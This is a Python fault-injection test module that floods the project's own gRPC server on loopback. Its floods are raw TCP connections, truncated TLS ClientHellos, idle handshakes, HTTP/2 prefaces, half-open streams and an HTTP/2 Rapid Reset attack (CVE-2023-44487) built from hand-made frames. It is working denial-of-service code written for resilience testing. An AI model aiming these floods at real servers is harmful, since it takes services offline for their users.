"""Floods over TCP: what a stranger can do without a certificate, and a member with one. Bounded, on loopback.

`python -m tests.faults.floods KIND PORT SECONDS [CERTIFICATE KEY]` runs one, as a process of its own.
"""

import itertools
import resource
import socket
import ssl
import subprocess
import sys
import time
from collections import deque
from collections.abc import Callable, Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager, suppress
from functools import partial
from typing import Final

from flannelette.services.runtime.tls import TlsFiles

ADDRESSES: Final = 100
HELLO: Final = b"\x16\x03\x01\x3c\x00\x01\x00\x3b\xfc\x03\x03" + bytes(15_000)
"""A ClientHello (RFC 8446) of 15 KB without its last bytes."""
_A_SECOND: Final = 4_000
_OPEN: Final = 6_000
"""Connections that a flood keeps open, the newest."""
_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
_METHOD: Final = b"/flannelette.lease.v1.LeaseService/GetStatus"
_STREAMS: Final = 500
"""Begun and reset in one write."""
_HALVES: Final = 1_024
_CONNECTIONS: Final = 200
_AT_ONCE: Final = 16


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Of HTTP/2 (RFC 9113)."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def headers() -> bytes:
    """Of a call of gRPC, in HPACK (RFC 7541): values are literals that are not indexed."""
    path = bytes([4, len(_METHOD)]) + _METHOD
    return b"\x83\x87" + path + b"\x01\x01x" + b"\x0f\x10\x10application/grpc" + b"\x00\x02te\x08trailers"


def connections(port: int, until: float, words: bytes) -> None:
    """New ones, as many a second as the machine allows up to 4,000, that say these words and nothing else."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    opened: deque[socket.socket] = deque()
    begun = time.monotonic()
    for number in itertools.count():
        if time.monotonic() > until:
            break
        made = socket.socket()
        made.setblocking(False)
        with suppress(OSError):
            made.bind((f"127.0.9.{1 + number % ADDRESSES}", 0))
            made.connect_ex(("127.0.0.1", port))
            if words:
                with suppress(BlockingIOError):
                    made.send(words)
        opened.append(made)
        if len(opened) > min(_OPEN, most - 100):
            opened.popleft().close()
        if (early := begun + number / _A_SECOND - time.monotonic()) > 0:
            time.sleep(early)
    print(len(opened), number, flush=True)


def _member(port: int, files: tuple[str, str], number: int, words: bytes = _PREFACE) -> ssl.SSLSocket:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.load_cert_chain(*files)
    context.set_alpn_protocols(["h2"])
    source = (f"127.0.9.{1 + number % ADDRESSES}", 0)
    made = context.wrap_socket(socket.create_connection(("127.0.0.1", port), 2, source))
    made.sendall(words)
    return made


def resets(port: int, until: float, files: tuple[str, str]) -> None:
    """Calls that are begun and reset at once (CVE-2023-44487), on a new connection when the old one is closed."""
    block, sent = headers(), 0
    while time.monotonic() < until:
        with suppress(OSError), _member(port, files, 0) as made:
            for stream in itertools.count(1, 2 * _STREAMS):
                if time.monotonic() > until:
                    break
                numbers = range(stream, stream + 2 * _STREAMS, 2)
                pairs = (frame(1, 4, each, block) + frame(3, 0, each, b"\x00\x00\x00\x08") for each in numbers)
                made.sendall(b"".join(pairs))
                sent += _STREAMS
        time.sleep(0.01)
    print(sent, flush=True)


def callers_of_nothing(port: int, until: float, files: tuple[str, str], words: bytes) -> None:
    """Connections of a member that end their handshake, say these words and call nothing."""
    opened: deque[ssl.SSLSocket] = deque()
    numbers = itertools.count()

    def connect() -> None:
        while time.monotonic() < until:
            with suppress(OSError):
                opened.append(_member(port, files, next(numbers), words))

    with ThreadPoolExecutor(_AT_ONCE) as threads:
        for _ in range(_AT_ONCE):
            threads.submit(connect)
    print(len(opened), flush=True)


def halves(port: int, until: float, files: tuple[str, str]) -> None:
    """Calls that are begun and get no request, as many as the server takes, on many connections."""
    block = headers()
    opened: deque[ssl.SSLSocket] = deque()
    for number in itertools.count():
        if time.monotonic() > until:
            break
        with suppress(OSError):
            opened.append(_member(port, files, number))
            opened[-1].sendall(b"".join(frame(1, 4, each, block) for each in range(1, 2 * _HALVES, 2)))
        if len(opened) > _CONNECTIONS:
            with suppress(OSError):
                opened.popleft().close()
        time.sleep(0.01)
    print(number, flush=True)


FLOODS: Final[Mapping[str, Callable[..., None]]] = {
    "connections": lambda port, until, _: connections(port, until, b""),
    "hellos": lambda port, until, _: connections(port, until, HELLO),
    "handshakes": partial(callers_of_nothing, words=b""),
    "prefaces": partial(callers_of_nothing, words=_PREFACE),
    "resets": resets,
    "halves": halves,
}


@contextmanager
def flood(kind: str, port: int, seconds: float, files: TlsFiles | None = None) -> Iterator[subprocess.Popen[str]]:
    """One that runs for so many seconds, at most as long as the block."""
    more = (str(files.certificate), str(files.key)) if files else ()
    command = [sys.executable, "-m", "tests.faults.floods", kind, str(port), str(seconds), *more]
    process = subprocess.Popen(command, stdout=subprocess.PIPE, text=True)
    try:
        yield process
    finally:
        process.kill()
        process.wait()


if __name__ == "__main__":
    FLOODS[sys.argv[1]](int(sys.argv[2]), time.monotonic() + float(sys.argv[3]), tuple(sys.argv[4:]))
